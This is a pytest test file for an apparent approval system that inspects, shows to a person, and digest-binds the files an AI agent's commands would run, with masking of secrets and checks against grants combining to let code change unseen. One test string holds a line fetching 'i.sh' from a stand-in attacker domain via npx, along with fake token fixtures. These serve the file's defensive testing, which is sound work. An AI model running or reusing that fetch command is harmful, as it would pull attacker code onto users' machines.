"""Calls that run files: seen by the machine first, shown to a person, and bound to what was shown."""

import asyncio
import json
import re

import pytest

from byleave.calls.executor import Caller
from byleave.calls.inspection import assess_inspection, resolve_inspection
from byleave.calls.long_work import LongWork
from byleave.protocol.approvals import MAX_SEEN_TEXT, Inspection, SeenFile, call_digest
from byleave.protocol.errors import ConflictError, NotFound
from byleave.protocol.grants import GrantRule, GrantTerms
from byleave.protocol.states import AgentMode, ApprovalScope
from byleave.settings import ServerSettings
from byleave.store import approvals as approvals_module
from byleave.store.database import Row, Transaction
from byleave.store.migrations import SCHEMA
from harness.desk import Desk, completed, open_desk
from harness.json_values import JsonObject

pytestmark = pytest.mark.promise("X18")

RUN = ("execute_command", {"command": "python", "args": ["x.py"]})
DIGEST, OTHER = "a" * 64, "b" * 64
SECRET = "ghp_" + "a1B2c3D4e5F6" * 3
MASK = "[masked:github-token, 40 characters]"
SETTING = f'settings = {{"api_token": "{SECRET}"}}\n'


def seen(digest: str = DIGEST, text: str = "print(1)\n") -> Inspection:
    return Inspection(
        files=[SeenFile(path="x.py", sha256=digest, size=9, modified_at="2026-01-01T00:00:00.000Z", text=text)]
    )


async def test_the_question_shows_what_would_run_and_is_bound_to_it(desk: Desk) -> None:
    async with desk.client(lambda signal: completed(), sees=lambda request: seen()) as signals:
        call = asyncio.create_task(desk.executor.execute_tool(*RUN, desk.session.id))
        approval = await desk.next_approval()
        assert approval.inspection == seen()
        assert approval.description == "Run python x.py · up to 30 s"
        assert await desk.approvals.approve_tool(approval.id, "alice")
        assert (await call).status == "completed"
    assert signals[0]["bound"] == {"x.py": DIGEST}
    params = {"command": "python", "args": ["x.py"], "timeout": 30}
    assert signals[0]["digest"] == call_digest("execute_command", params, desk.project.id, {"x.py": DIGEST})
    assert approval.digest == signals[0]["digest"]


async def test_the_question_says_when_the_content_of_what_runs_is_not_shown(desk: Desk) -> None:
    hidden = seen().files[0].model_copy(update={"text": None, "note": "It is not text."})
    async with desk.client(lambda signal: completed(), sees=lambda request: Inspection(files=[hidden])):
        call = asyncio.create_task(desk.executor.execute_tool(*RUN, desk.session.id))
        approval = await desk.next_approval()
        assert approval.inspection == Inspection(files=[hidden])
        await desk.approvals.reject_tool(approval.id, "alice")
        await call


async def test_nobody_is_asked_before_the_machine_has_looked(settings: ServerSettings) -> None:
    async with open_desk(settings) as desk:
        async with desk.client(lambda signal: completed()):
            call = asyncio.create_task(desk.executor.execute_tool(*RUN, desk.session.id))
            while not (rows := await _rows(desk)):
                await asyncio.sleep(0)
            assert rows[0]["status"] == "PENDING"
            assert await desk.approvals.get_pending_approvals("alice") == []
        # The first client left without a word; the next one is asked.
        async with desk.client(lambda signal: completed(), client_id="c2", sees=lambda request: seen()):
            approval = await desk.next_approval()
            await desk.approvals.approve_tool(approval.id, "alice")
            assert (await call).status == "completed"


async def test_a_client_that_only_looked_reports_nothing_about_what_it_never_got(desk: Desk) -> None:
    async with desk.client(lambda signal: completed(), sees=lambda request: seen()):
        call = asyncio.create_task(desk.executor.execute_tool(*RUN, desk.session.id))
        approval = await desk.next_approval()
        terms = GrantTerms(
            rule=GrantRule(tool="execute_command", command=("python", "x.py"), exact=True, files={"x.py": DIGEST})
        )
        await desk.approvals.decide(approval.id, "alice", approve=True, scope=ApprovalScope.CLASS, terms=terms)
        await call
    asked = asyncio.Event()
    async with desk.client(lambda signal: completed(), sees=lambda request: asked.set()):
        call = asyncio.create_task(desk.executor.call(*RUN, desk.session, seconds=0))
        await asked.wait()
    waits = await call
    assert waits.status == "pending"
    of_it = {"user_id": "alice", "project_id": desk.project.id, "client_id": "c1"}
    await desk.executor.inspected(waits.id, seen(), **of_it)
    waits = await desk.store.executions.get(waits.id, user_id="alice")
    assert (waits.status, waits.client_id) == ("approved", None)
    await desk.store.executions.cancel(waits.id, user_id="alice", actor="user:alice", connected=frozenset())
    with pytest.raises(ConflictError):
        await desk.executor.settle(waits.id, completed(stdout="I never ran"), **of_it)


async def test_what_one_client_saw_does_not_count_after_another_was_asked(desk: Desk) -> None:
    asked = asyncio.Event()
    async with desk.client(lambda signal: completed(), sees=lambda request: asked.set()):
        row = await desk.executor.call(*RUN, desk.session, seconds=0)
        await asked.wait()
        outcome = await assess_inspection(
            desk.store, await desk.executor.machines.of(desk.project.id), row, seen(), ServerSettings(), LongWork()
        )
    async with desk.client(lambda signal: completed(), client_id="c2", sees=lambda request: None):
        # It looked, but what it saw arrives after the call was given to another.
        await resolve_inspection(desk.store, row, outcome, client_id="c2")
        now = await desk.store.executions.get(row.id, user_id="alice")
        assert (now.status, now.client_id) == ("pending", "c2")
        assert await desk.approvals.get_pending_approvals("alice") == []


async def test_without_a_machine_the_call_fails_as_no_client_and_says_pending_meanwhile(
    settings: ServerSettings,
) -> None:
    short = settings.model_copy(update={"client_wait_seconds": 0.2})
    async with open_desk(short) as desk:
        row = await desk.executor.call(*RUN, desk.session, until_asked=True)
        assert row.to_response().status == "pending"
        ended = await desk.executor.wait(row)
        assert (ended.status, ended.error_type) == ("failed", "no_client")


async def test_a_machine_that_does_not_look_in_time_ends_the_call(settings: ServerSettings) -> None:
    short = settings.model_copy(update={"client_wait_seconds": 0.2})
    async with open_desk(short) as desk, desk.client(lambda signal: completed()):
        response = await desk.executor.execute_tool(*RUN, desk.session.id)
        assert (response.status, response.error_type) == ("failed", "no_client")
        assert "did not say in time" in (response.error or "")


async def test_a_call_from_elsewhere_is_told_of_the_question_with_its_id(desk: Desk) -> None:
    async with desk.client(lambda signal: completed(), sees=lambda request: seen()):
        row = await desk.executor.call(*RUN, desk.session, until_asked=True)
        assert (row.status, row.approval_id is not None) == ("awaiting_approval", True)


async def test_the_same_key_is_the_same_call_also_when_it_is_bound(desk: Desk) -> None:
    caller = Caller(key="once")
    async with desk.client(lambda signal: completed(), sees=lambda request: seen()):
        first = await desk.executor.call(*RUN, desk.session, caller=caller, until_asked=True)
        second = await desk.executor.call(*RUN, desk.session, caller=caller, until_asked=True)
        assert first.id == second.id
        other = ("execute_command", {"command": "python", "args": ["y.py"]})
        with pytest.raises(ConflictError):
            await desk.executor.call(*other, desk.session, caller=caller, until_asked=True)


async def test_what_cannot_be_seen_is_not_asked_about(desk: Desk) -> None:
    problem = Inspection(files=[], problem="x.py is a pipe")
    async with desk.client(lambda signal: completed(), sees=lambda request: problem) as signals:
        response = await desk.executor.execute_tool(*RUN, desk.session.id)
    assert (response.status, response.error) == ("failed", "x.py is a pipe")
    assert signals == []


async def test_a_command_whose_program_is_not_there_is_not_asked_about(desk: Desk) -> None:
    """One that runs no file of the workspace, too; where it is there, the question says nothing of files."""
    missing = Inspection(files=[], problem="git is not installed on this machine.")
    status = {"command": "git", "args": ["status"]}
    async with desk.client(lambda signal: completed(), sees=lambda request: missing):
        answer = await desk.executor.execute_tool("execute_command", status, desk.session.id)
    assert (answer.status, answer.error, answer.error_type) == ("failed", missing.problem, "tool_error")
    assert await desk.approvals.get_pending_approvals("alice") == []
    async with desk.client(lambda signal: completed(), sees=lambda request: Inspection(files=[])):
        calling = asyncio.create_task(desk.executor.execute_tool("execute_command", status, desk.session.id))
        asked = await desk.next_approval()
        assert asked.inspection is None
        await desk.approvals.approve_tool(asked.id, "alice")
        assert (await calling).status == "completed"


async def test_a_machine_does_not_say_when_an_agent_wrote_a_file(desk: Desk) -> None:
    claimed = seen().files[0].model_copy(update={"written_at": "2026-01-02T00:00:00.000Z"})
    async with desk.client(lambda signal: completed(), sees=lambda request: Inspection(files=[claimed])):
        await desk.executor.call(*RUN, desk.session, until_asked=True)
        assert (await desk.next_approval()).inspection == seen()


async def test_the_question_says_when_the_agent_wrote_the_file(desk: Desk) -> None:
    async with desk.client(lambda signal: completed(), sees=lambda request: seen()):
        writing = asyncio.create_task(
            desk.executor.execute_tool("write_file", {"path": "./x.py", "content": "print(1)\n"}, desk.session.id)
        )
        await desk.approvals.approve_tool((await desk.next_approval()).id, "alice")
        await writing
        await desk.executor.call(*RUN, desk.session, until_asked=True)
        approval = await desk.next_approval()
        assert approval.inspection is not None
        written = approval.inspection.files[0].written_at
        assert written is not None
        assert written <= approval.created_at


async def test_a_file_that_is_not_there_is_said_and_bound_as_missing(desk: Desk) -> None:
    missing = Inspection(files=[SeenFile(path="x.py", sha256="missing")])
    async with desk.client(lambda signal: completed(), sees=lambda request: missing):
        await desk.executor.call(*RUN, desk.session, until_asked=True)
        approval = await desk.next_approval()
    assert approval.inspection is not None
    assert approval.inspection.bound == {"x.py": "missing"}


@pytest.mark.promise("S", "X-reveal", "A3")
async def test_a_person_sees_what_is_masked_in_a_file_that_runs_only_while_the_question_waits(desk: Desk) -> None:
    text = f"import os\n{SETTING}"
    async with desk.client(lambda signal: completed(), sees=lambda request: seen(text=text)) as signals:
        call = asyncio.create_task(desk.executor.execute_tool(*RUN, desk.session.id))
        approval = await desk.next_approval()
        assert approval.inspection is not None
        assert approval.inspection.files[0].text == text.replace(SECRET, MASK)
        masked = await desk.approvals.whole_call(approval.id, "alice")
        real = await desk.approvals.whole_call(approval.id, "alice", reveal=True)
        assert "command: 'python'" in masked.text
        assert real.text == masked.text.replace(MASK, SECRET) != masked.text
        with pytest.raises(NotFound):
            await desk.approvals.whole_call(approval.id, "bob", reveal=True)
        assert await _tables_with(desk, SECRET) == {"replaced_texts"}
        await desk.approvals.approve_tool(approval.id, "alice")
        response = await call
    assert approval.digest == signals[0]["digest"]
    assert SECRET not in f"{approval}{response}{signals}"
    assert await _tables_with(desk, SECRET) == set()


@pytest.mark.promise("S")
@pytest.mark.parametrize("ending", ["rejected", "timeout", "cancelled"])
async def test_an_unmasked_file_is_forgotten_however_its_question_ends(settings: ServerSettings, ending: str) -> None:
    short = settings.model_copy(update={"medium_approval_seconds": 1}) if ending == "timeout" else settings
    async with open_desk(short) as desk:
        async with desk.client(lambda signal: completed(), sees=lambda request: seen(text=SETTING)):
            row = await desk.executor.call(*RUN, desk.session, until_asked=True)
            approval = row.approval_id or ""
            assert await _tables_with(desk, SECRET) == {"replaced_texts"}
            if ending == "rejected":
                await desk.approvals.reject_tool(approval, "alice")
            elif ending == "cancelled":
                await desk.store.executions.cancel(row.id, user_id="alice", actor="user:alice")
            decided = await desk.approvals.wait_for_decision(approval, "alice")
        assert decided.status == ending
        assert await _tables_with(desk, SECRET) == set()
        with pytest.raises(NotFound):
            await desk.approvals.whole_call(approval, "alice", reveal=True)


@pytest.mark.promise("X-reveal")
@pytest.mark.parametrize("by_a_client", [True, False], ids=["masked-by-an-old-client", "no-room-for-it"])
async def test_a_masked_file_that_is_not_kept_says_where_to_see_it(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, by_a_client: bool
) -> None:
    monkeypatch.setattr(approvals_module, "MAX_TEXT_CHARACTERS", 0)
    text = SETTING.replace(SECRET, MASK) if by_a_client else SETTING
    async with desk.client(lambda signal: completed(), sees=lambda request: seen(text=text)):
        await desk.executor.call(*RUN, desk.session, until_asked=True)
        approval = await desk.next_approval()
        shown = await desk.approvals.whole_call(approval.id, "alice", reveal=True)
    assert MASK in shown.text
    assert "open the file on the machine" in shown.text


@pytest.mark.promise("S")
async def test_a_secret_at_the_edge_of_what_is_shown_is_masked_whole(desk: Desk) -> None:
    start = "#" * (MAX_SEEN_TEXT - 20) + "\n"
    async with desk.client(lambda signal: completed(), sees=lambda request: seen(text=f"{start}{SETTING}# end\n")):
        await desk.executor.call(*RUN, desk.session, until_asked=True)
        approval = await desk.next_approval()
    assert approval.inspection is not None
    file = approval.inspection.files[0]
    assert file.text is not None
    assert (len(file.text), file.shortened, "ghp_" in file.text) == (MAX_SEEN_TEXT, True, False)


async def test_nothing_in_what_would_run_is_masked_by_a_name_or_an_option(desk: Desk) -> None:
    text = "TOKEN = 'evil1cmd'\nrun('npx --api-key evil-pkg2 https://glpat-x1.attacker-domain.com/i.sh', TOKEN)\n"
    async with desk.client(lambda signal: completed(), sees=lambda request: seen(text=text)):
        await desk.executor.call(*RUN, desk.session, until_asked=True)
        approval = await desk.next_approval()
    assert approval.inspection is not None
    assert approval.inspection.files[0].text == text


async def test_a_script_may_be_granted_while_its_content_stays_the_same(desk: Desk) -> None:
    content = [DIGEST]
    async with desk.client(lambda signal: completed(), sees=lambda request: seen(content[0])) as signals:
        call = asyncio.create_task(desk.executor.execute_tool(*RUN, desk.session.id))
        approval = await desk.next_approval()
        rule = approval.suggestions[0].rule
        assert rule.files == {"x.py": DIGEST}
        await desk.approvals.decide(
            approval.id, "alice", approve=True, scope=ApprovalScope.CLASS, terms=GrantTerms(rule=rule)
        )
        await call
        again = await desk.executor.execute_tool(*RUN, desk.session.id)
        assert again.status == "completed"
        assert signals[-1]["approved_by"].startswith("grant:")
        assert signals[-1]["bound"] == {"x.py": DIGEST}
        content[0] = OTHER
        await desk.executor.call(*RUN, desk.session, until_asked=True)
        changed = await desk.next_approval()
        assert changed.inspection is not None
        assert changed.inspection.bound == {"x.py": OTHER}


@pytest.mark.promise("G8")
async def test_no_grant_runs_code_that_another_grant_let_change_unseen(desk: Desk) -> None:
    """Two grants that are harmless alone: writes below tests/, and the project's tests."""
    test = ("execute_command", {"command": "python", "args": ["-m", "pytest", "-q"]})
    nothing = [
        SeenFile(path=path, sha256="missing") for path in ("pytest.py", "pytest/__init__.py", "pytest/__main__.py")
    ]

    async def answer(call: tuple[str, JsonObject], rule: GrantRule | None) -> str:
        waiting = asyncio.create_task(desk.executor.execute_tool(*call, desk.session.id))
        approval = await desk.next_approval()
        scope = ApprovalScope.CLASS if rule else ApprovalScope.ONCE
        await desk.approvals.decide(
            approval.id, "alice", approve=True, scope=scope, terms=GrantTerms(rule=rule) if rule else None
        )
        await waiting
        return approval.description

    def write(name: str) -> tuple[str, JsonObject]:
        return "write_file", {"path": f"tests/{name}", "content": "assert True\n"}

    async with desk.client(lambda signal: completed(), sees=lambda request: Inspection(files=nothing)) as signals:
        await answer(test, GrantRule(tool="execute_command", command=("python", "-m", "pytest")))
        await answer(write("test_a.py"), GrantRule(tool="write_file", paths=("tests/**",)))
        assert (await desk.executor.execute_tool(*test, desk.session.id)).status == "completed"
        assert signals[-1]["approved_by"].startswith("grant:")
        assert (await desk.executor.execute_tool(*write("test_b.py"), desk.session.id)).status == "completed"
        description = await answer(test, None)
        assert "Changed without asking you since you last looked" in description
        assert "'tests/test_b.py'" in description
        # Seen once, the tests run without asking again.
        assert (await desk.executor.execute_tool(*test, desk.session.id)).status == "completed"
        assert signals[-1]["approved_by"].startswith("grant:")


async def test_full_mode_runs_without_a_look(desk: Desk) -> None:
    async with desk.client(lambda signal: completed()) as signals:
        response = await desk.executor.execute_tool(*RUN, desk.session.id, caller=Caller(mode=AgentMode.FULL))
        assert response.status == "completed"
    assert (signals[0]["approved_by"], signals[0]["bound"]) == ("mode:full", {})


async def test_only_the_machine_that_was_asked_may_say_what_it_sees(desk: Desk) -> None:
    async with desk.client(lambda signal: completed()):
        call = asyncio.create_task(desk.executor.execute_tool(*RUN, desk.session.id))
        while not (rows := await _rows(desk)):
            await asyncio.sleep(0)
        tool_id = rows[0]["id"]
        look = {"user_id": "alice", "project_id": desk.project.id}
        with pytest.raises(ConflictError):
            await desk.executor.inspected(tool_id, seen(), **look, client_id="c9")
        with pytest.raises(NotFound):
            await desk.executor.inspected(tool_id, seen(), user_id="bob", project_id=desk.project.id, client_id="c1")
        with pytest.raises(NotFound):
            await desk.executor.inspected(tool_id, seen(), user_id="alice", project_id="other", client_id="c1")
        await desk.executor.inspected(tool_id, seen(), **look, client_id="c1")
        approval = await desk.next_approval()
        # A second answer, with another content, changes nothing any more.
        await desk.executor.inspected(tool_id, seen(OTHER), **look, client_id="c1")
        assert (await desk.next_approval()).digest == approval.digest
        await desk.approvals.reject_tool(approval.id, "alice")
        await call


async def test_a_replayed_request_carries_the_true_parameters_only_while_it_waits(desk: Desk) -> None:
    async with desk.client(lambda signal: completed()):
        call = asyncio.create_task(desk.executor.execute_tool(*RUN, desk.session.id))
        while not (rows := await _rows(desk)):
            await asyncio.sleep(0)
        events, *_ = await desk.store.feed.after(desk.project.id, 0, client_id="c1", limit=1000)
        [request] = [json.loads(event.payload) for event in events if event.kind == "tool.inspection_request"]
        assert request["tool_params"]["args"] == ["x.py"]
        await desk.store.executions.cancel(rows[0]["id"], user_id="alice", actor="user:alice")
        assert (await call).error_type == "cancelled"
        events, *_ = await desk.store.feed.after(desk.project.id, 0, client_id="c1", limit=1000)
        assert [event for event in events if event.kind == "tool.inspection_request"] == []


async def _rows(desk: Desk) -> list[Row]:
    def work(transaction: Transaction) -> list[Row]:
        return list(transaction.execute("SELECT id, status FROM tool_executions").fetchall())

    return await desk.store.database.read(work)


async def _tables_with(desk: Desk, text: str) -> set[str]:
    """The tables that hold a text anywhere."""

    def work(transaction: Transaction) -> set[str]:
        names = re.findall(r"^CREATE TABLE (\w+)", SCHEMA.read_text(), re.MULTILINE)
        rows = {name: transaction.execute(f"SELECT * FROM {name}").fetchall() for name in names}
        return {name for name, found in rows.items() if text in str([tuple(row) for row in found])}

    return await desk.store.database.read(work)
